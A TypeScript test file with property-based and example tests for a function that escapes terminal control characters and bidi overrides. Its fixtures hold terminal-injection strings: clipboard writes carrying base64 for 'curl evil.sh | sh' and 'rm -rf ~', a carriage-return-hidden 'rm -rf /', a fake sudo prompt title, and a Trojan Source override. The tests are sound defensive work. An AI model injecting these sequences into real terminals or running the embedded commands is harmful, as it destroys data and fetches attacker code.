import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { escapeControls } from './terminal-output';

// A fixed seed so a run is repeatable; FC_SEED=<n> explores others. fast-check names the seed
// and the shrunk counterexample of a failure, and the seed of every run is printed here.
const seed = Number(process.env.FC_SEED ?? 20261203);
console.info(`terminal-output property tests: fast-check seed ${seed}`);

const isControl = (code: number): boolean =>
  (code <= 0x1f && code !== 0x09 && code !== 0x0a) ||
  (code >= 0x7f && code <= 0x9f) ||
  (code >= 0x202a && code <= 0x202e) ||
  (code >= 0x2066 && code <= 0x2069);

const controlsIn = (text: string): number[] =>
  [...text].map((ch) => ch.codePointAt(0)!).filter(isControl);

/** Characters weighted towards the interesting ones: every control, and their neighbours. */
const anyChar = fc.oneof(
  fc.integer({ min: 0, max: 0xa0 }).map((c) => String.fromCharCode(c)),
  fc.integer({ min: 0x2028, max: 0x206f }).map((c) => String.fromCharCode(c)),
  fc.constantFrom('\\', 'x', '1', 'b', '[', ']', ';', '\u00e9', '\ud83d\ude00'),
  fc.string({ unit: 'grapheme', maxLength: 1 }),
);
const anyText = fc.array(anyChar, { maxLength: 80 }).map((chars) => chars.join(''));

describe('escapeControls', () => {
  it('leaves no control character but newline and tab (property)', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        expect(controlsIn(escapeControls(text))).toEqual([]);
      }),
      { seed, numRuns: 2_000 },
    );
  });

  it('leaves text without controls unchanged (property)', () => {
    const printable = fc
      .string({ unit: fc.oneof(anyChar, fc.string({ unit: 'binary', maxLength: 1 })) })
      .filter((text) => controlsIn(text).length === 0);
    fc.assert(
      fc.property(printable, (text) => {
        expect(escapeControls(text)).toBe(text);
      }),
      { seed, numRuns: 2_000 },
    );
  });

  it('keeps every character that is not a control, in order (property)', () => {
    // Removing the escapes again gives the input without its controls: nothing else is touched.
    fc.assert(
      fc.property(anyText, (text) => {
        const withoutControls = [...text].filter((ch) => !isControl(ch.codePointAt(0)!)).join('');
        const marked = [...text]
          .map((ch) => (isControl(ch.codePointAt(0)!) ? '\u0000' : ch))
          .join('');
        const out = escapeControls(marked).replaceAll('\\x00', '');
        expect(out).toBe(withoutControls);
      }),
      { seed, numRuns: 1_000 },
    );
  });

  it('writes each control in a JavaScript string notation', () => {
    expect(escapeControls('\u001b')).toBe('\\x1b');
    expect(escapeControls('\u0007')).toBe('\\x07');
    expect(escapeControls('\r')).toBe('\\x0d');
    expect(escapeControls('\b\f\v\u0000')).toBe('\\x08\\x0c\\x0b\\x00');
    expect(escapeControls('\u007f')).toBe('\\x7f');
    expect(escapeControls('\u0080\u009b\u009f')).toBe('\\x80\\x9b\\x9f');
    expect(escapeControls('\u202a\u202e\u2066\u2069')).toBe('\\u202a\\u202e\\u2066\\u2069');
    // The boundaries: the neighbours of each range are text.
    expect(escapeControls('\t\n \u00a0~\u2029\u202f\u2065\u206a')).toBe(
      '\t\n \u00a0~\u2029\u202f\u2065\u206a',
    );
  });

  it('returns the very same string when there is nothing to escape', () => {
    const text = 'plain output\nwith\ttabs, unicode \u00e9 \ud83d\ude00 and \\x1b spelled out\n';
    expect(escapeControls(text)).toBe(text);
    expect(escapeControls('')).toBe('');
  });
});

describe('attack strings come out inert', () => {
  const attacks: readonly { name: string; raw: string; shown: string }[] = [
    {
      name: 'OSC 52 clipboard write (BEL-terminated)',
      raw: '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007',
      shown: '\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07',
    },
    {
      name: 'OSC 52 clipboard write (ST-terminated)',
      raw: '\u001b]52;p;cm0gLXJmIH4=\u001b\\',
      shown: '\\x1b]52;p;cm0gLXJmIH4=\\x1b\\',
    },
    { name: 'clear the screen', raw: 'a\u001b[2Jb', shown: 'a\\x1b[2Jb' },
    { name: 'cursor home', raw: '\u001b[H', shown: '\\x1b[H' },
    {
      name: 'cursor up over earlier lines',
      raw: 'ok\n\u001b[1A\u001b[2K',
      shown: 'ok\n\\x1b[1A\\x1b[2K',
    },
    { name: '8-bit CSI clear', raw: '\u009b2J', shown: '\\x9b2J' },
    { name: '8-bit OSC title', raw: '\u009d0;pwned\u009c', shown: '\\x9d0;pwned\\x9c' },
    {
      name: 'window title set',
      raw: '\u001b]0;sudo password:\u0007',
      shown: '\\x1b]0;sudo password:\\x07',
    },
    {
      name: 'carriage return over a line',
      raw: 'rm -rf /\rls       ',
      shown: 'rm -rf /\\x0dls       ',
    },
    {
      name: 'backspaces over text',
      raw: 'evil\b\b\b\bgood',
      shown: 'evil\\x08\\x08\\x08\\x08good',
    },
    {
      name: 'Trojan Source override',
      raw: 'access = "user\u202e \u2066// admin\u2069 \u2066"',
      shown: 'access = "user\\u202e \\u2066// admin\\u2069 \\u2066"',
    },
  ];

  it.each(attacks)('$name', ({ raw, shown }) => {
    const out = escapeControls(raw);
    expect(out).toBe(shown);
    expect(controlsIn(out)).toEqual([]);
  });
});
